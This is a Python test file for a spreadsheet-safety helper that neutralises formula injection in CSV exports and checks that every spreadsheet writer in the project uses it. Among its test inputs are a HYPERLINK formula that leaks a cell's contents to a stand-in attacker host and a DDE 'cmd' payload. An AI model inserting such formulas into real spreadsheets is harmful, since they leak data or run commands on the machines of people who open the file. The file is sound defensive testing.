"""Formula neutralisation for spreadsheets: the one helper, and that every CSV writer of the app uses it."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from studyapp.core.spreadsheet_safety import SafeDictWriter, SafeWriter, neutralise, neutralise_frame
from tests.conftest import ROOT


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
            '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),  # and the lone CR becomes LF, which CSV quotes
        ("-3", "-3"),  # just a number
        ("+31", "+31"),
        ("-1.5", "-1.5"),
        ("-", "'-"),
        ("engineer", "engineer"),
        (" =1", " =1"),  # a leading space makes it text already
        ("a\r\nb", "a\r\nb"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_raw_text_keeps_formulas_but_never_a_lone_carriage_return() -> None:
    assert neutralise("=1+1", raw_text=True) == "=1+1"
    assert neutralise("a\rb", raw_text=True) == "a\nb"


def test_frames_neutralise_text_columns_and_leave_numbers() -> None:
    frame = pd.DataFrame(
        {
            "n": pd.array([-3, 4], dtype="Int64"),
            "x": pd.array([-1.5, None], dtype="Float64"),
            "s": pd.array(["=1", None], dtype="str"),
            "mixed": pd.Series([-3, "-3+A1"], dtype=object),
        }
    )
    safe = neutralise_frame(frame)
    assert safe["n"].tolist() == [-3, 4] and safe["n"].dtype == frame["n"].dtype
    assert safe["x"].tolist()[0] == -1.5
    assert safe["s"].tolist()[0] == "'=1" and pd.isna(safe["s"].tolist()[1])
    assert safe["mixed"].tolist() == [-3, "'-3+A1"]
    assert frame["s"].tolist()[0] == "=1"  # the input is not changed


def test_safe_writers_cover_the_header_too() -> None:
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["=a", "b"])
    writer.writeheader()
    writer.writerow({"=a": "@x", "b": None})
    SafeWriter(out).writerow([1, "+y"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=a", "b"], ["'@x", ""], ["1", "'+y"]]
    with pytest.raises(ValueError, match="not in fieldnames"):
        writer.writerow({"c": 1})


WRITES_A_SPREADSHEET = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|Workbook\(|xlsxwriter")


def test_every_csv_and_xlsx_writer_goes_through_the_helper() -> None:
    """A new writer that bypasses studyapp.core.spreadsheet_safety fails here until it uses it."""
    helper = ROOT / "studyapp" / "core" / "spreadsheet_safety.py"
    offenders = [
        f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
        for folder in ("studyapp", "waves", "analysis")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path != helper
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITES_A_SPREADSHEET.search(line)
    ]
    assert offenders == []
